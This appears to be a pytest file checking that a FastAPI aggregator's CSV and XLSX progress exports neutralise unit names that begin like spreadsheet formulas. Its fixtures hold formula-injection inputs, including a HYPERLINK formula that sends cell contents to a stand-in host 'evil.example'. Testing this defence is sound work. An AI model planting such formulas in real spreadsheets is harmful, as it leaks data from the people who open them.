"""The tables for Excel never carry a live formula, whatever a unit is named: the CSV
quotes it, the XLSX stores it as text."""

import csv
import io

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from services.aggregator.api import router
from services.aggregator.hub import ProgressHub
from services.aggregator.migrations import MIGRATIONS
from services.web.auth import Caller
from services.web.errors import install_error_handlers
from tests.unit.test_aggregator_rules import Aggregates, unit
from tests.unit.test_spreadsheets import table_of

PERIOD = {"campaign": "dai-hoi-xiv", "period": "2026-W04"}
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
FORMULAS = {"xa-1": HYPERLINK, "xa-2": "+1+1", "xa-3": "-2+3", "xa-4": "@SUM(A1:A9)",
            "xa-5": "\t=1+1", "xa-6": "\r=1+1"}


@pytest.fixture
def client(migrated) -> TestClient:
    aggregates = Aggregates(migrated(MIGRATIONS))
    aggregates.add(*(unit(code, name=name) for code, name in FORMULAS.items()),
                   unit("xa-7", name="Xã An Hưng"))
    app = FastAPI()
    install_error_handlers(app)
    app.include_router(router)
    app.state.engine, app.state.directory = aggregates.engine, aggregates.directory
    app.state.hub, app.state.identify = ProgressHub(), lambda token: Caller("admin")
    return TestClient(app)


def download(client: TestClient, path: str, form: str) -> bytes:
    response = client.get(f"/v1/progress{path}", params=PERIOD | {"format": form},
                          headers={"authorization": "Bearer admin"})
    assert response.status_code == 200, response.text
    return response.content


def names_in(client: TestClient, path: str) -> dict[str, str]:
    lines = io.StringIO(download(client, path, "csv").decode("utf-8-sig"), newline="")
    next(lines)  # the Vietnamese headers: the codes are the second row
    return {row["code"]: row["name"] for row in csv.DictReader(lines)}


@pytest.mark.parametrize("path", ["", "/missing"], ids=["progress", "missing"])
def test_a_name_that_starts_like_a_formula_is_sent_as_text(client, path) -> None:
    names = names_in(client, path)
    assert {code: names[code] for code in FORMULAS} == {
        code: "'" + name for code, name in FORMULAS.items()}
    assert names["xa-7"] == "Xã An Hưng"  # an ordinary name is left alone


@pytest.mark.parametrize("path", ["", "/missing"], ids=["progress", "missing"])
def test_a_name_that_starts_like_a_formula_is_a_text_cell_in_the_xlsx(client, path) -> None:
    codes, rows = table_of(download(client, path, "xlsx"))
    name = [c.value for c in codes].index("name")
    cells = {str(row[0].value): row[name] for row in rows}
    assert {code: (cells[code].value, cells[code].data_type) for code in FORMULAS} == {
        code: (text, "s") for code, text in FORMULAS.items()}
    assert cells["xa-7"].value == "Xã An Hưng"
